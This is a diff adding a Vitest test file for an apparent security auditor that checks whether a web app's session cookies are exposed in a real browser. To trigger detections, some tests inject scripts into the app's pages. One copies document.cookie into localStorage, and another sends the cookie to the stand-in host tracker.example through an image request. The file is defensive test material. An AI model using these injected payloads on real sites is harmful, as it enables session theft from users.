@@ -1,0 +1,52 @@
+import { describe, expect, test } from 'vitest'
+import { audit, findings, leaksIn, verdicts } from './support/audit.ts'
+import { bearerApp } from './support/bearer-app.ts'
+import { cookieApp } from './support/cookie-app.ts'
+import type { App } from './support/web.ts'
+
+/** The cookie application with HttpOnly taken off, or with a script that copies where it should not. */
+function changed(change: (html: string) => string, cookies: (line: string) => string = (line) => line): App {
+  const app = cookieApp()
+  return async (ask) => {
+    const reply = await app(ask)
+    return {
+      ...reply,
+      ...(reply.html === undefined ? {} : { html: change(reply.html) }),
+      ...(reply.cookies === undefined ? {} : { cookies: reply.cookies.map(cookies) }),
+    }
+  }
+}
+
+const same = (html: string) => html
+const bare = (line: string) => line.replace('; HttpOnly', '')
+
+describe('what a real browser shows', () => {
+  const judge = (app: App) => audit(app, ['browser-exposure'], { browser: true })
+
+  test('a careful application is not accused, and its session in Chromium is ended', async () => {
+    const report = await judge(cookieApp())
+    expect(verdicts(report)).toEqual({ 'browser-exposure/scripts': 'pass', 'browser-exposure/other sites': 'pass' })
+    expect(report.leftBehind).toEqual([])
+  })
+
+  test('a cookie that scripts read is found', async () => {
+    expect(verdicts(await judge(changed(same, bare)))).toMatchObject({ 'browser-exposure/scripts': 'fail' })
+  })
+
+  test('a copy in storage is found, and does not stand in the report', async () => {
+    const copies = (html: string) => `${html}<script>localStorage.copy = document.cookie</script>`
+    const report = await judge(changed(copies, bare))
+    expect(findings(report)[0]?.detail).toContain('localStorage copy')
+    expect(leaksIn(report)).toEqual([])
+  })
+
+  test('a session that is sent to another site is found, and not sent', async () => {
+    const sends = (html: string) =>
+      `${html}<script>new Image().src = 'http://tracker.example/?' + document.cookie</script>`
+    expect(verdicts(await judge(changed(sends, bare)))).toMatchObject({ 'browser-exposure/other sites': 'fail' })
+  })
+
+  test('an application without pages is not judged', async () => {
+    expect(verdicts(await judge(bearerApp()))).toEqual({ 'browser-exposure/browser': 'cannot-judge' })
+  })
+})
